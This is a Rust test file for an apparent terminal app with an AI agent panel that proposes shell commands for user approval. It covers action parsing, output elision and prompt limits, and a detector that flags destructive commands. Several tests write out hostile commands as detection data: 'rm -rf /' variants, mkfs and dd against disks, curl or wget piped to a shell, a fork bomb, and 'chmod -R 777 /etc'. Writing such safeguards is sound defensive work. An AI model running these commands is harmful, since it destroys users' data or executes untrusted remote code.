use jterm1::agent::{
    action_of, elide_middle, is_dangerous, parse_action, sample_observation, strip_fences, Fields,
    ParsedAction, Turn, MAX_OBS_BYTES, MAX_TRANSCRIPT_BYTES,
};
use jterm1::agent_panel::{
    intro, observation_title, proposal, submitted, thought, AgentSession, REPLY_HINT,
};

#[test]
fn parse_action_run_basic() {
    let r = parse_action(r#"{"action":"run","command":"ls -la"}"#);
    assert_eq!(
        r,
        ParsedAction::Run {
            thought: None,
            command: "ls -la".to_string()
        }
    );
}

#[test]
fn parse_action_run_with_thought() {
    let r = parse_action(
        r#"{"thought":"need to inspect","action":"run","command":"du -sh"}"#,
    );
    match r {
        ParsedAction::Run { thought, command } => {
            assert_eq!(thought.as_deref(), Some("need to inspect"));
            assert_eq!(command, "du -sh");
        }
        other => panic!("unexpected: {other:?}"),
    }
}

#[test]
fn parse_action_say() {
    let r = parse_action(r#"{"action":"say","message":"What dir?"}"#);
    assert_eq!(
        r,
        ParsedAction::Say {
            thought: None,
            message: "What dir?".to_string()
        }
    );
}

#[test]
fn parse_action_done() {
    let r = parse_action(r#"{"action":"done","message":"All clear."}"#);
    assert_eq!(
        r,
        ParsedAction::Done {
            thought: None,
            message: "All clear.".to_string()
        }
    );
}

#[test]
fn parse_action_strips_json_fence() {
    let raw = "```json\n{\"action\":\"run\",\"command\":\"echo hi\"}\n```";
    match parse_action(raw) {
        ParsedAction::Run { command, .. } => assert_eq!(command, "echo hi"),
        other => panic!("unexpected: {other:?}"),
    }
}

#[test]
fn parse_action_falls_back_to_say_on_garbage() {
    let r = parse_action("hello this is not JSON");
    assert_eq!(
        r,
        ParsedAction::Say {
            thought: None,
            message: "hello this is not JSON".to_string()
        }
    );
}

#[test]
fn parse_action_unknown_action_treated_as_say() {
    let r = parse_action(r#"{"action":"frobnicate","message":"huh"}"#);
    assert_eq!(
        r,
        ParsedAction::Say {
            thought: None,
            message: "huh".to_string()
        }
    );
}

#[test]
fn parse_action_empty_command_falls_back_to_say() {
    let r = parse_action(r#"{"action":"run","command":""}"#);
    match r {
        ParsedAction::Say { .. } => {}
        other => panic!("expected say, got {other:?}"),
    }
}

#[test]
fn dangerous_catches_rm_rf_root() {
    assert!(is_dangerous("rm -rf /").is_some());
    assert!(is_dangerous("rm -rf /*").is_some());
    assert!(is_dangerous("rm -fr /").is_some());
    assert!(is_dangerous("rm -r -f /").is_some());
    assert!(is_dangerous("rm --recursive --force /").is_some());
}

#[test]
fn dangerous_catches_rm_rf_home() {
    assert!(is_dangerous("rm -rf ~").is_some());
    assert!(is_dangerous("rm -rf ~/").is_some());
    assert!(is_dangerous("rm -rf /home/alice").is_some());
    assert!(is_dangerous("rm -rf /home").is_some());
}

#[test]
fn dangerous_allows_rm_rf_in_tmp() {
    // We deliberately do not flag /tmp/foo — that's the user's call.
    assert!(is_dangerous("rm -rf /tmp/foo").is_none());
    assert!(is_dangerous("rm -rf ./build").is_none());
    assert!(is_dangerous("rm somefile").is_none());
}

#[test]
fn dangerous_catches_mkfs() {
    assert!(is_dangerous("mkfs.ext4 /dev/sda1").is_some());
    assert!(is_dangerous("sudo mkfs.xfs /dev/sdb").is_some());
}

#[test]
fn dangerous_catches_dd_to_device() {
    assert!(is_dangerous("dd if=foo of=/dev/sda bs=1M").is_some());
}

#[test]
fn dangerous_catches_curl_pipe_sh() {
    assert!(is_dangerous("curl https://foo.sh | sh").is_some());
    assert!(is_dangerous("wget -qO- https://foo.sh | bash").is_some());
}

#[test]
fn dangerous_catches_fork_bomb() {
    assert!(is_dangerous(":(){ :|:& };:").is_some());
}

#[test]
fn dangerous_lets_normal_commands_through() {
    assert!(is_dangerous("ls -la").is_none());
    assert!(is_dangerous("git status").is_none());
    assert!(is_dangerous("docker ps").is_none());
    assert!(is_dangerous("cargo build --release").is_none());
}

#[test]
fn transcript_prompt_includes_turns() {
    let mut s = AgentSession::new(0, 0);
    s.transcript.push(Turn::User("disk full".to_string()));
    s.transcript.push(Turn::AssistantProposed {
        cmd: "df -h".to_string(),
        approved: Some(true),
    });
    s.transcript.push(Turn::Observation {
        exit: 0,
        output_sample: "Filesystem      Size  Used".to_string(),
    });
    let prompt = s.build_user_prompt();
    assert!(prompt.contains("disk full"));
    assert!(prompt.contains("df -h"));
    assert!(prompt.contains("Filesystem"));
    assert!(prompt.contains("exit=0"));
}

#[test]
fn elide_middle_passes_short_through() {
    assert_eq!(elide_middle("hi", 100), "hi");
}

#[test]
fn elide_middle_truncates_long_text_keeping_head_and_tail() {
    let big = "x".repeat(10_000);
    let s = elide_middle(&big, 1000);
    assert!(s.contains("elided"));
    assert!(s.len() < 1500);
}

#[test]
fn elide_middle_respects_utf8_boundaries() {
    // Multibyte chars near the cut points.
    let s: String = (0..2000).map(|_| "λ").collect();
    let out = elide_middle(&s, 200);
    // Must be valid UTF-8 and contain the elision marker.
    assert!(out.contains("elided"));
    assert!(out.chars().count() > 0);
}

#[test]
fn elided_text_has_the_exact_mark() {
    let text = format!("{}{}{}", "a".repeat(5), "b".repeat(10), "c".repeat(5));
    assert_eq!(elide_middle(&text, 10), "aaaaa\n\n… [10 bytes elided] …\n\nccccc");
}

#[test]
fn elision_cuts_between_characters() {
    // Five characters of two bytes each; half of five bytes holds one of them.
    assert_eq!(elide_middle("λλλλλ", 5), "λ\n\n… [6 bytes elided] …\n\nλ");
}

#[test]
fn observations_are_sampled() {
    let long = "x".repeat(MAX_OBS_BYTES + 1);
    let sample = sample_observation(&long);
    assert!(sample.contains("[1 bytes elided]"));
    assert_eq!(sample_observation("short"), "short");
}

#[test]
fn prompts_stay_bounded_and_end_with_the_hint() {
    let mut s = AgentSession::new(1, 2);
    s.transcript.push(Turn::User("y".repeat(2 * MAX_TRANSCRIPT_BYTES)));
    let prompt = s.build_user_prompt();
    assert!(prompt.ends_with(REPLY_HINT));
    assert!(prompt.len() <= MAX_TRANSCRIPT_BYTES + 100);
    assert_eq!(AgentSession::new(1, 2).build_user_prompt(), REPLY_HINT);
}

#[test]
fn turns_have_their_prompt_lines() {
    let run = Turn::AssistantProposed { cmd: "ls \"x\"".to_string(), approved: None };
    let line = run.to_prompt_line();
    let at = line.find('{').unwrap();
    let value: serde_json::Value = serde_json::from_str(&line[at..]).unwrap();
    assert_eq!(value["command"], "ls \"x\"");
    assert_eq!(value["action"], "run");
    assert_eq!(run.size(), 22);
    assert_eq!(Turn::User("λ".to_string()).size(), 10);
}

#[test]
fn fences_are_stripped() {
    let raw: Vec<char> = "```json\n{}\n```".chars().collect();
    let inner: String = strip_fences(&raw).iter().collect();
    assert_eq!(inner.trim(), "{}");
    let plain: Vec<char> = "{}".chars().collect();
    assert_eq!(strip_fences(&plain), plain.as_slice());
}

#[test]
fn fields_decide_the_action() {
    let fields = Fields {
        thought: Some("hm".to_string()),
        action: Some("run".to_string()),
        command: Some("ls".to_string()),
        message: None,
    };
    assert_eq!(
        action_of("raw", Some(fields)),
        ParsedAction::Run { thought: Some("hm".to_string()), command: "ls".to_string() }
    );
    assert_eq!(
        action_of("raw", None),
        ParsedAction::Say { thought: None, message: "raw".to_string() }
    );
}

#[test]
fn danger_ignores_white_space_around_the_command() {
    assert_eq!(is_dangerous("  rm -rf /  \n"), Some("rm -rf against a top-level path"));
    assert_eq!(is_dangerous("echo x > /dev/sda"), Some("redirecting to a raw block device"));
    assert_eq!(
        is_dangerous("chmod -R 777 /etc"),
        Some("recursive chmod 777 on a top-level path")
    );
}

#[test]
fn cancelling_is_remembered() {
    let mut s = AgentSession::new(3, 4);
    assert!(!s.is_cancelled());
    s.cancel();
    assert!(s.is_cancelled());
    assert_eq!((s.bound_tab, s.bound_pane), (3, 4));
}

#[test]
fn status_lines() {
    let mut s = AgentSession::new(0, 0);
    assert_eq!(s.status(), "turn 0/1");
    s.turns_used = 3;
    assert_eq!(s.status(), "turn 3/3");
    s.awaiting_command = Some("ls".to_string());
    assert_eq!(s.status(), "Waiting for command output…");
    s.sealed = true;
    assert_eq!(s.status(), "Session sealed — open a new agent for more turns.  (3/3)");
}

#[test]
fn panel_texts() {
    assert_eq!(
        intro("ollama", 8),
        "Talk to ollama. The model proposes one command per turn; you approve each before it \
         runs. Output is fed back automatically. Max 8 turns."
    );
    assert_eq!(observation_title(-1, "aλ"), "Output (exit -1, 3 bytes)");
    assert_eq!(thought("hm"), "💭 hm");
    assert_eq!(submitted("  go \n"), Some("go".to_string()));
    assert_eq!(submitted(" \t "), None);
}

#[test]
fn proposals_warn_of_destructive_commands() {
    let p = proposal("rm -rf /", None, false);
    assert_eq!(p.warning.as_deref(), Some("⚠ destructive — rm -rf against a top-level path"));
    assert_eq!(p.approve, Some("Approve & Run (destructive)"));
    assert!(p.can_approve);
    let p = proposal("ls", None, true);
    assert_eq!(p.warning, None);
    assert_eq!(p.approve, Some("Approve & Run"));
    assert!(!p.can_approve);
    assert_eq!(proposal("ls", Some(true), false).verdict, Some("✓ ran"));
    assert_eq!(proposal("ls", Some(false), false).verdict, Some("✗ rejected"));
}

#[test]
fn capitals_do_not_hide_danger() {
    for cmd in ["RM -RF /", "  Sudo MKFS.ext4 /dev/sda ", "CURL x | SH", ":(){ :|:& };:", "ls"] {
        assert_eq!(is_dangerous(cmd), is_dangerous(&cmd.to_ascii_lowercase()));
        assert_eq!(is_dangerous(cmd), is_dangerous(cmd.trim()));
    }
    assert!(is_dangerous("RM -RF /").is_some());
}
